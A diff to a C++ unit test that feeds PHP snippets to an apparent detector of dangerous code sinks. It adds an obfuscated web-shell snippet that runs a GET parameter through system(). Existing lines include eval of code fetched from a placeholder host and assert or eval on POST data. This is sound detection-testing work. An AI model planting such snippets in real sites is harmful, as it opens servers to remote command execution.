@@ -73,6 +73,7 @@ TEST(Triggers, MailAndRequestDrivenCodeOpenTheFlow) {
         "<?$f='mail';$f($a);", "<?eval(file_get_contents('https://a.example/b'));",
         "<?$url='http://a.example/b';copy($url,'c.php');", "<?fwrite($f,base64_decode($x));",
         "<?call_user_func_array(assert,array($_POST['x']));",
+        "<?$a=$q^'>';$a=$a.'GET';$c=${$a}['c'];system($c);", "<?$n=$m;eval(${$n}['c']);",
         "<?array_intersect_ukey($a,$_POST,$f);", "<?$a=$$b;$f($a['x']);",
         "<?if($a>mail($b,$c,$d))exit;"})
     EXPECT_TRUE(of_code(code).sinks) << code;
